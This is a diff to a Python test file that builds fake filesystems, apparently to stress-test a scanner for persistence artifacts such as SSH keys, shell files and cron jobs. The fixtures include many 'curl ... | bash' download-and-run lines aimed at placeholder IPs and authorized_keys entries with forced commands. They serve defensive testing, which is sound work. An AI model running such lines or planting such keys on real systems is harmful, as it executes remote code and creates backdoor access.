@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import gzip
 import json
 import os
@@ -82,6 +83,11 @@ def _many_at_jobs(root: Path) -> None:
         write(root, f"/var/spool/cron/atjobs/a{number:05x}01c5f3a0", b"#!/bin/sh\n# atrun uid=1000 gid=1000\ntrue\n", 1000, 0o700)
 
 
+def _many_keys(root: Path) -> None:
+    for name in ("authorized_keys", "authorized_keys2"):
+        write(root, f"{MALLORY}/.ssh/{name}", b'command="/tmp/x" ssh-rsa AAAA\n' * 60_000, 1000)
+
+
 def _many_shell_files(root: Path) -> None:
     for number in range(60):
         write(root, f"{MALLORY}/.bashrc.d/{number:02}", COMMANDS, 1000)
@@ -90,6 +96,8 @@ def _many_shell_files(root: Path) -> None:
 # A shell's quotes, the dearest of what one text may hold.
 SLOW = b"\"'`" * (4 << 18)
 COMMANDS = b"".join(b"curl -s http://203.0.113.%d/x%d.sh | bash &\n" % (number % 250, number) for number in range(85_000))
+KEY = base64.b64encode(b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + bytes(32))
+SLOW_KEY = b'command="' + SLOW.replace(b'"', b'\\"') + b'" ssh-ed25519 ' + KEY
 CASES = [
     Case(
         "shell_history_findings", _files(f"{MALLORY}/.bash_history", b"ls\n" * 1_800_000),
@@ -118,7 +126,11 @@ CASES = [
         "crontabs/victim", "crontabs/mallory", 300,
     ),
     Case(
-        "ssh_key_findings", _files(f"{MALLORY}/.ssh/authorized_keys", b"x\n" * 600_000),
+        "ssh_key_findings", _files(f"{MALLORY}/.ssh/authorized_keys", SLOW_KEY),
+        _files(f"{VICTIM}/.ssh/authorized_keys", b"no key at all\n", 1001), VICTIM, None, 300,
+    ),
+    Case(
+        "ssh_key_findings", _many_keys,
         _files(f"{VICTIM}/.ssh/authorized_keys", b"no key at all\n", 1001), VICTIM, f"{MALLORY}/.ssh/authorized_keys", 300,
     ),
     Case(
